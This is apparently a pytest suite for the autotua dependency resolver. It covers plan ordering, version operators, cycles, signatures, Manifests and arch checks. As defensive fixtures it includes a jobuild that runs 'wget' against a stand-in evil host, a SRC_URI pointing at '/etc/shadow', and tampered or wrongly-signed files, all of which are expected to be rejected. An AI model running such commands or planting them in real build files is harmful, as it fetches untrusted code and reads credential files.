"""The depgraph: the plan, SIDEPENDs, warnings, and every kind of error, all at once."""

import pytest

from autotua.cache import DigestCache
from autotua.demo.sampletree import build_distfiles
from autotua.depgraph import Resolver, resolve
from autotua.manifest import Manifest
from autotua.metadata import MetadataReader
from autotua.signature import Verifier
from autotua.tree import BzrTree, DirTree


def res(tw, root, trusted, reader, arch=None):
    return resolve(DirTree(tw.root), root, trusted=trusted, arch=arch, reader=reader)


def kinds(r):
    return [(e.kind, e.jobuild) for e in r.errors]


def test_plan_is_dependency_order_each_once(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/a bob/b"')
    tw.jobuild("alice/a-1", 'DEPEND="carol/c"')
    tw.jobuild("bob/b-1", 'DEPEND="carol/c alice/a"')
    tw.jobuild("carol/c-1")
    r = res(tw, "alice/root", trusted, reader)
    assert r.valid, r.errors
    assert [e.jobuild for e in r.plan] == ["carol/c-1", "alice/a-1", "bob/b-1", "alice/root-1"]
    assert r.plan[0].path == "carol/c/c-1.jobuild"
    assert all(len(e.digest) == 64 for e in r.plan)
    assert r.stage3 == "openrc"


def test_versions_and_operators_pick_the_highest_match(tree_writer, trusted, reader):
    tw = tree_writer
    for v in ("1.0", "1.9", "1.10", "2"):
        tw.jobuild(f"alice/lib-{v}")
    tw.jobuild("alice/app-1", 'DEPEND="<alice/lib-2"')
    assert res(tw, "alice/app", trusted, reader).plan[0].jobuild == "alice/lib-1.10"
    assert res(tw, "alice/lib", trusted, reader).plan[0].jobuild == "alice/lib-2"
    assert res(tw, "=alice/lib-1.9", trusted, reader).plan[0].jobuild == "alice/lib-1.9"


@pytest.mark.bad_input('atom', 'a DEPEND on a jobuild not in the tree', 'error missing')
@pytest.mark.bad_input('atom', 'a DEPEND no version satisfies', 'error no-match, listing the versions')
def test_missing_and_no_match(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/app-1", 'DEPEND="alice/gone >=alice/lib-3"')
    tw.jobuild("alice/lib-1")
    tw.jobuild("alice/lib-2")
    r = res(tw, "alice/app", trusted, reader)
    assert kinds(r) == [("missing", "alice/app-1"), ("no-match", "alice/app-1")]
    assert r.errors[0].message == "alice/app-1 needs alice/gone, which is not in the tree"
    assert r.errors[1].message == "alice/app-1 needs >=alice/lib-3: no version matches (the tree has 1 2)"
    r = res(tw, "bob/nothing", trusted, reader)
    assert kinds(r) == [("missing", "bob/nothing")]
    assert r.errors[0].message == "there is no jobuild bob/nothing in the tree"  # the atom once, not three times
    assert r.plan == []
    r = res(tw, "alice/lbi", trusted, reader)  # a typo
    assert r.errors[0].message == "there is no jobuild alice/lbi in the tree (did you mean alice/lib?)"
    r = res(tw, ">=alice/lib-5", trusted, reader)
    assert r.errors[0].message == ">=alice/lib-5: no version matches (the tree has 1 2)"


@pytest.mark.bad_input('atom', 'a DEPEND cycle', 'error cycle, with its path')
def test_cycle_with_its_path(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/a-1", 'DEPEND="alice/b"')
    tw.jobuild("alice/b-1", 'DEPEND="alice/c"')
    tw.jobuild("alice/c-1", 'DEPEND="alice/a"')
    r = res(tw, "alice/a", trusted, reader)
    assert kinds(r) == [("cycle", "alice/a-1")]
    assert "alice/a-1 -> alice/b-1 -> alice/c-1 -> alice/a-1" in r.errors[0].message
    # found from any of its jobuilds, it is the same cycle, written the same way: `check` reports it once
    assert res(tw, "alice/c", trusted, reader).errors == r.errors
    from autotua.maintainer import check_tree
    from autotua.tree import DirTree

    report = check_tree(DirTree(tw.root), trusted, reader=reader)
    assert [e.message for e in report.errors if e.kind == "cycle"] == [r.errors[0].message]


@pytest.mark.bad_input('signature', "an unsigned jobuild in a job's graph",
                       'error missing-signature; not in the plan')
def test_signature_errors(tree_writer, trusted, reader, keys):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/unsigned alice/tampered alice/mallory carol/c dave/d"')
    tw.jobuild("alice/unsigned-1", sign_as=None)
    p = tw.jobuild("alice/tampered-1")
    p.write_text(p.read_text() + "echo injected\n")
    tw.jobuild("alice/mallory-1", sign_as="mallory")
    tw.jobuild("carol/c-1")
    tw.key("dave", as_user="mallory")  # dave is nobody we trust
    tw.jobuild("dave/d-1", sign_as="mallory")
    untrusted = {u: f for u, f in trusted.items() if u != "carol"}
    r = res(tw, "alice/root", untrusted, reader)
    assert kinds(r) == [
        ("missing-signature", "alice/unsigned-1"),
        ("bad-signature", "alice/tampered-1"),
        ("wrong-key", "alice/mallory-1"),
        ("unknown-maintainer", "carol/c-1"),
        ("unknown-maintainer", "dave/d-1"),
    ]
    # nothing that failed its signature is in the plan
    assert [e.jobuild for e in r.plan] == ["alice/root-1"]


def test_tree_key_that_does_not_match_the_record(tree_writer, trusted, reader):
    tw = tree_writer
    tw.key("bob", as_user="mallory")
    tw.jobuild("bob/x-1", sign_as="mallory")
    r = res(tw, "bob/x", trusted, reader)
    assert kinds(r) == [("untrusted-key", "bob/x-1")]
    assert trusted["bob"] in r.errors[0].message


@pytest.mark.bad_input('jobuild', "a jobuild signed by the wrong key, in a job's graph",
                       'error wrong-key; bash never started')
def test_unverified_jobuilds_are_never_sourced(tree_writer, trusted):
    tw = tree_writer
    tw.jobuild("alice/x-1", sign_as="mallory")
    with MetadataReader(DigestCache()) as reader:
        r = res(tw, "alice/x", trusted, reader)
        assert kinds(r) == [("wrong-key", "alice/x-1")]
        assert reader._daemons == []  # no bash process was even started


def manifest(tw, user, name, dist=None, aux=None):
    tw.write(f"{user}/{name}/Manifest", Manifest.build(dist or {}, aux or {}).to_text())


@pytest.mark.bad_input('manifest', 'a SRC_URI without a Manifest', 'error manifest')
@pytest.mark.bad_input('manifest', 'a SRC_URI file missing from the Manifest', 'error manifest-missing-entry')
@pytest.mark.bad_input('manifest', 'a files/ file changed after the Manifest', 'error manifest-mismatch')
@pytest.mark.bad_input('manifest', 'a files/ file not in the Manifest', 'error manifest-missing-entry')
@pytest.mark.bad_input('manifest', 'an unsigned Manifest', 'error missing-signature')
@pytest.mark.bad_input('manifest', "a malformed Manifest in a job's graph", 'error manifest, with the line')
def test_manifest_errors(tree_writer, trusted, reader, tmp_path):
    tw = tree_writer
    dist = build_distfiles(tmp_path / "dist")
    tw.jobuild("alice/root-1", 'DEPEND="alice/nomanifest alice/notlisted alice/aux alice/unsigned alice/bad"')
    tw.jobuild("alice/nomanifest-1", 'SRC_URI="mirror://s/hello-suite-1.0.tar.gz"')
    tw.jobuild("alice/notlisted-1", 'SRC_URI="mirror://s/hello-suite-1.0.tar.gz mirror://s/x.tar -> y.tar"')
    manifest(tw, "alice", "notlisted", {"hello-suite-1.0.tar.gz": dist["hello-suite-1.0.tar.gz"]})
    tw.jobuild("alice/aux-1")
    tw.write("alice/aux/files/ok.sh", "echo ok\n", sign_as=None)
    tw.write("alice/aux/files/changed.sh", "echo original\n", sign_as=None)
    tw.write("alice/aux/files/extra.sh", "echo extra\n", sign_as=None)
    files = tw.root / "alice/aux/files"
    manifest(tw, "alice", "aux", aux={"ok.sh": files / "ok.sh", "changed.sh": files / "changed.sh"})
    (files / "changed.sh").write_text("echo tampered\n")
    tw.jobuild("alice/unsigned-1", 'SRC_URI="https://e.org/hello-suite-1.1.tar.gz"')
    tw.write("alice/unsigned/Manifest", Manifest.build({"hello-suite-1.1.tar.gz": dist["hello-suite-1.1.tar.gz"]},
                                                      {}).to_text(), sign_as=None)
    tw.jobuild("alice/bad-1", 'SRC_URI="https://e.org/a"')
    tw.write("alice/bad/Manifest", "DIST a five BLAKE2B x SHA512 y\n")
    r = res(tw, "alice/root", trusted, reader)
    assert kinds(r) == [
        ("manifest", "alice/nomanifest-1"),
        ("manifest-missing-entry", "alice/notlisted-1"),
        ("manifest-mismatch", "alice/aux-1"),
        ("manifest-missing-entry", "alice/aux-1"),
        ("missing-signature", "alice/unsigned-1"),
        ("manifest", "alice/bad-1"),
    ]
    msgs = [e.message for e in r.errors]
    assert "SRC_URI file y.tar is not in alice/notlisted/Manifest" in msgs[1]
    assert "files/changed.sh" in msgs[2] and "mismatch" in msgs[2]
    assert "files/extra.sh is not in" in msgs[3]
    assert "line 1" in msgs[5]
    listed = next(e for e in r.plan if e.jobuild == "alice/notlisted-1")
    assert [d.name for d in listed.src_uri] == ["hello-suite-1.0.tar.gz"]
    assert listed.src_uri[0].size == dist["hello-suite-1.0.tar.gz"].stat().st_size


@pytest.mark.bad_input('jobuild', 'inherit of a template signed by another key', 'error template-untrusted')
@pytest.mark.bad_input('manifest', 'a SRC_URI of file:///etc/shadow', 'error bad-src-uri')
def test_metadata_and_template_errors(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/dies alice/cmd alice/notmpl alice/badtmpl alice/badsrc"')
    tw.jobuild("alice/dies-1", 'die "broken global scope"')
    tw.jobuild("alice/cmd-1", "wget https://evil.example/x")
    tw.jobuild("alice/notmpl-1", "inherit alice/none")
    tw.write("alice/templates/signedbad.jtemplate", "X=1\n", sign_as="mallory")
    tw.jobuild("alice/badtmpl-1", "inherit alice/signedbad")
    tw.jobuild("alice/badsrc-1", 'SRC_URI="file:///etc/shadow"')
    r = res(tw, "alice/root", trusted, reader)
    assert kinds(r) == [
        ("metadata", "alice/dies-1"),
        ("metadata", "alice/cmd-1"),
        ("template-missing", "alice/notmpl-1"),
        ("template-untrusted", "alice/badtmpl-1"),
        ("bad-src-uri", "alice/badsrc-1"),
    ]
    assert "broken global scope" in r.errors[0].message
    assert "'wget' at alice/cmd/cmd-1.jobuild, line 2 runs a command at global scope" in r.errors[1].message
    assert "wrong-key" not in r.errors[3].message and "signed by key" in r.errors[3].message


@pytest.mark.bad_input('atom', "a job for an arch a jobuild's ARCH lacks", 'error arch')
def test_arch(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/x86only"\nARCH="amd64 x86"')
    tw.jobuild("alice/x86only-1", 'ARCH="x86"')
    assert res(tw, "alice/root", trusted, reader, arch="x86").valid
    assert res(tw, "alice/root", trusted, reader).valid  # no arch asked: no check
    r = res(tw, "alice/root", trusted, reader, arch="amd64")
    assert kinds(r) == [("arch", "alice/x86only-1")]
    assert 'ARCH="x86", which does not include amd64' in r.errors[0].message


def test_every_error_at_once_deterministically(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/gone alice/loop alice/dies"\nSIDEPEND="bob/nope"\nARCH="x86"')
    tw.jobuild("alice/loop-1", 'DEPEND="alice/loop"')
    tw.jobuild("alice/dies-1", "false")
    r1 = res(tw, "alice/root", trusted, reader, arch="amd64")
    assert kinds(r1) == [
        ("missing", "alice/root-1"),
        ("cycle", "alice/loop-1"),
        ("metadata", "alice/dies-1"),
        ("arch", "alice/root-1"),
        ("missing", "alice/root-1"),
    ]
    r2 = res(tw, "alice/root", trusted, reader, arch="amd64")
    assert r1.to_json() == r2.to_json()
    assert r1.to_json()["valid"] is False


def test_any_of(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="|| ( alice/gone ( alice/a alice/b ) alice/c )"')
    for n in ("a", "b", "c"):
        tw.jobuild(f"alice/{n}-1")
    r = res(tw, "alice/root", trusted, reader)
    assert r.valid
    assert [e.jobuild for e in r.plan] == ["alice/a-1", "alice/b-1", "alice/root-1"]
    assert [w.kind for w in r.warnings] == ["any-of"]
    tw.jobuild("alice/none-1", 'DEPEND="|| ( alice/x alice/y )"')
    r = res(tw, "alice/none", trusted, reader)
    assert kinds(r) == [("no-match", "alice/none-1")]


def test_sidepends_carry_the_current_digest(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/dep"\nSIDEPEND="<bob/side-2"')
    tw.jobuild("alice/dep-1", 'SIDEPEND="bob/side"')
    tw.jobuild("bob/side-1", "inherit bob/t")
    tw.jobuild("bob/side-2", "inherit bob/t")
    tw.write("bob/templates/t.jtemplate", "src_test() { :; }\n")
    r = res(tw, "alice/root", trusted, reader)
    assert r.valid, r.errors
    assert [(s.atom, s.jobuild, s.required_by) for s in r.sidepends] == [
        ("bob/side", "bob/side-2", "alice/dep-1"),
        ("<bob/side-2", "bob/side-1", "alice/root-1"),
    ]
    before = r.sidepends[1].digest
    # the digest covers the templates a jobuild inherits
    tw.write("bob/templates/t.jtemplate", "src_test() { echo changed; }\n")
    after = res(tw, "alice/root", trusted, reader).sidepends[1].digest
    assert before != after


def test_digest_covers_files_and_manifest(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/x-1")
    tw.write("alice/x/files/a.sh", "echo 1\n", sign_as=None)
    manifest(tw, "alice", "x", aux={"a.sh": tw.root / "alice/x/files/a.sh"})
    d1 = res(tw, "alice/x", trusted, reader).plan[0].digest
    tw.write("alice/x/files/a.sh", "echo 2\n", sign_as=None)
    manifest(tw, "alice", "x", aux={"a.sh": tw.root / "alice/x/files/a.sh"})
    r = res(tw, "alice/x", trusted, reader)
    assert r.valid
    assert r.plan[0].digest != d1


def test_sidepend_on_itself_and_on_the_plan(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/self-1", 'SIDEPEND="alice/self"')
    assert kinds(res(tw, "alice/self", trusted, reader)) == [("cycle", "alice/self-1")]
    tw.jobuild("alice/both-1", 'DEPEND="alice/dep"\nSIDEPEND="alice/dep"')
    tw.jobuild("alice/dep-1")
    r = res(tw, "alice/both", trusted, reader)
    assert r.valid
    assert [w.kind for w in r.warnings] == ["sidepend-in-plan"]


@pytest.mark.parametrize("bad", ["", "alice/x-1", ">=alice", "alice/x y"])
@pytest.mark.bad_input('atom', 'the job root {bad!r}', 'error bad-atom')
def test_bad_root_atom(tree_writer, trusted, reader, bad):
    r = res(tree_writer, bad, trusted, reader)
    assert [e.kind for e in r.errors] == ["bad-atom"]
    assert r.plan == []


@pytest.mark.bad_input('atom', 'a malformed atom in DEPEND', 'error bad-atom')
def test_bad_depend_atom(tree_writer, trusted, reader):
    tree_writer.jobuild("alice/x-1", 'DEPEND="alice/y-1 || alice/z"')
    r = res(tree_writer, "alice/x", trusted, reader)
    assert kinds(r) == [("bad-atom", "alice/x-1")]
    assert "a version needs an operator" in r.errors[0].message


def test_stage3_comes_from_the_root(tree_writer, trusted, reader):
    tw = tree_writer
    tw.jobuild("alice/root-1", 'DEPEND="alice/dep"\nSTAGE3=systemd')
    tw.jobuild("alice/dep-1", "STAGE3=musl")
    assert res(tw, "alice/root", trusted, reader).stage3 == "systemd"


def test_the_sample_tree_at_a_bzr_revision(sample, reader):
    tree = BzrTree(sample.branch, 1)
    with Verifier(sample.fingerprints) as v:
        resolver = Resolver(tree, v, reader)
        r = resolver.resolve("bob/integration", "amd64")
        assert r.valid, r.errors
        assert [e.jobuild for e in r.plan] == ["alice/toolchain-sanity-1.0", "bob/portconf-check-1.0",
                                               "bob/integration-1.0"]
        assert [(s.atom, s.jobuild) for s in r.sidepends] == [("<alice/hello-suite-2", "alice/hello-suite-1.1")]
        assert r.revno == 1 and r.revision == tree.revision
        assert resolver.resolve("bob/integration", "arm64").errors[0].kind == "arch"
        portconf = r.plan[1].portconf_uri
        assert [d.name for d in portconf] == ["bob-portconf-1.tar.gz"]
        hello = resolver.resolve("alice/hello-suite")
        assert hello.plan[-1].jobuild == "alice/hello-suite-2.0"
        assert [d.name for d in hello.plan[-1].src_uri] == ["alice-hello-suite-2.0.tar.gz"]
